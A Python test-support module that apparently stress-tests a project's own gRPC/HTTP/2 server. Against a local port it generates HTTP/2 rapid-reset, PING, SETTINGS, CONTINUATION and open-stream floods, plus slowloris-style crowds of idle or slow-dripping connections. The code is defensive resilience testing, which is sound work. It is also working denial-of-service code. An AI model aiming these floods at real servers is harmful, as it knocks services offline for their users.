"""``python -m tests.support.attacks KIND PORT SECONDS [COUNT]``: peers that mean harm, in a process of their own.

Floods go on as fast as sockets take them and come back when they are thrown out. Crowds are many connections that say
nothing, or only greet, or say one octet a second, and never ask anything. What happened is printed as one line of JSON
at the end.
"""

import json
import resource
import select
import socket
import struct
import sys
import time

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BURST = 100
"""Steps of a flood in one write."""

FIELDS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/resolver.v1.ResolutionService/Resolve"),
    (":authority", "x"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]


def frame(kind, flags=0, stream_id=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def header_block():
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode(FIELDS)


BLOCK = header_block()
QUESTION = b"\x0a\x0e88.300.1/HELLO"
MESSAGE = struct.pack(">BI", 0, len(QUESTION)) + QUESTION


def rapid_reset(step):
    stream_id = 2 * step + 1
    return (
        frame(HEADERS, END_HEADERS, stream_id, BLOCK)
        + frame(DATA, END_STREAM, stream_id, MESSAGE)
        + frame(RST_STREAM, 0, stream_id, (8).to_bytes(4, "big"))
    )


def ping(step):
    return frame(PING, 0, 0, step.to_bytes(8, "big"))


def settings(step):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 3, step))


def continuation(step):
    first = frame(HEADERS, 0, 1, BLOCK) if step == 0 else b""
    return first + frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 20)


def open_streams(step):
    """More and more calls that are begun and not ended."""
    return frame(HEADERS, END_HEADERS, 2 * step + 1, BLOCK)


FLOODS = {
    "rapid-reset": rapid_reset,
    "ping": ping,
    "settings": settings,
    "continuation": continuation,
    "open-streams": open_streams,
}

DRIPS = {"drip": PREFACE, "drip-http": b"GET /" + b"a" * 60, "drip-hdl": b"\2\x0b\2\x0b" + bytes(60)}
"""Beginnings that are sent an octet a second: to the gRPC, HTTP and Handle port."""


def flood(kind, port, seconds):
    """Send without reading the answers, as attackers do, until the time is over."""
    make, until = FLOODS[kind], time.monotonic() + seconds
    steps = thrown_out = 0
    while time.monotonic() < until:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as peer:
            peer.sendall(PREFACE + frame(SETTINGS))
            peer.settimeout(1)
            try:
                step = 0
                while time.monotonic() < until:
                    peer.sendall(b"".join(make(step + more) for more in range(BURST)))
                    step += BURST
                    steps += BURST
                    if select.select([peer], [], [], 0)[0] and not peer.recv(1 << 16):
                        break
            except OSError:
                pass
        thrown_out += time.monotonic() < until
    return {"steps": steps, "thrown_out": thrown_out}


def crowd(kind, port, seconds, count):
    """Open connections, keep them as long as the other side does, and tell when the last was closed."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    begun = time.monotonic()
    peers, refused, drops = [], 0, {}
    for _ in range(count):
        try:
            peer = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            refused += 1
            continue
        if kind == "mute":
            peer.sendall(PREFACE + frame(SETTINGS))
        peer.setblocking(False)
        peers.append(peer)
    opened_s = time.monotonic() - begun
    print(json.dumps({"opened": len(peers), "refused": refused}), flush=True)
    poll = select.poll()
    by_fd = {peer.fileno(): peer for peer in peers}
    for fd in by_fd:
        poll.register(fd, select.POLLIN)
    sent, last = 0, 0.0
    while by_fd and time.monotonic() - begun < seconds:
        if kind in DRIPS and time.monotonic() - begun > sent + 1:
            for peer in by_fd.values():
                try:
                    peer.send(DRIPS[kind][sent : sent + 1])
                except OSError:
                    continue  # the poll below sees it
            sent += 1
        for fd, _ in poll.poll(200):
            try:
                octets = by_fd[fd].recv(1 << 16)
            except OSError:
                octets = b""
            if not octets:
                poll.unregister(fd)
                by_fd.pop(fd).close()
                last = time.monotonic() - begun
                drops[int(last)] = drops.get(int(last), 0) + 1
    return {
        "opened": len(peers),
        "refused": refused,
        "left": len(by_fd),
        "opening_s": round(opened_s, 1),
        "last_closed_s": round(last, 1),
    }


def main():
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    found = flood(kind, port, seconds) if kind in FLOODS else crowd(kind, port, seconds, int(sys.argv[4]))
    print(json.dumps({"attack": kind, **found}), flush=True)


if __name__ == "__main__":
    main()
